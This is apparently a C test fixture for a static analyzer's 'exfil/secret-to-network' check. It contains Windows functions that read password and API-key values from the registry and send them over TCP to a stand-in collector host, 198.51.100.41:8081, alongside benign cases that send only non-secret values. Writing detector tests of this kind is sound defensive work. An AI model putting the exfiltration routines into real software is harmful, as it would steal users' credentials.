// target: x86_64-w64-mingw32
/* Values of the registry, by their names. */
#include <winsock2.h>

#include <windows.h>

static SOCKET collector(void) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(8081)};
    SOCKET s = socket(AF_INET, SOCK_STREAM, 0);
    to.sin_addr.s_addr = inet_addr("198.51.100.41");
    connect(s, (struct sockaddr *)&to, sizeof to);
    return s;
}

void bad_opened(void) {
    HKEY key;
    BYTE value[256];
    DWORD size = sizeof value;
    if (RegOpenKeyExA(HKEY_CURRENT_USER, "Software\\Ledger\\Mail", 0, KEY_READ, &key))
        return;
    RegQueryValueExA(key, "SmtpPassword", NULL, NULL, value, &size);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    send(collector(), (const char *)value, (int)size, 0);
}

void bad_asked(SOCKET s) {
    char value[128];
    DWORD size = sizeof value;
    s = collector();
    RegGetValueA(HKEY_LOCAL_MACHINE, "Software\\Ledger", "ApiKey_Secret", RRF_RT_REG_SZ, NULL,
                 value, &size);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    send(s, value, (int)size, 0);
}

static const char *const names[] = {"AdminPasswd"};

static DWORD take(HKEY key, BYTE *into, DWORD size) {
    RegQueryValueExA(key, names[0], NULL, NULL, into, &size);
    return size;
}

void bad_taken(HKEY key) {
    BYTE value[64];
    DWORD size = take(key, value, sizeof value);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    send(collector(), (const char *)value, (int)size, 0);
}

/* Which language the user has. */
void good_language(HKEY key) {
    BYTE value[64];
    DWORD size = sizeof value;
    RegQueryValueExA(key, "Language", NULL, NULL, value, &size);
    send(collector(), (const char *)value, (int)size, 0);
}

/* Whether there is one. */
void good_present(HKEY key) {
    BYTE value[64];
    DWORD size = sizeof value;
    LSTATUS status = RegQueryValueExA(key, "SmtpPassword", NULL, NULL, value, &size);
    send(collector(), status == ERROR_SUCCESS ? "1" : "0", 1, 0);
    SecureZeroMemory(value, sizeof value);
}
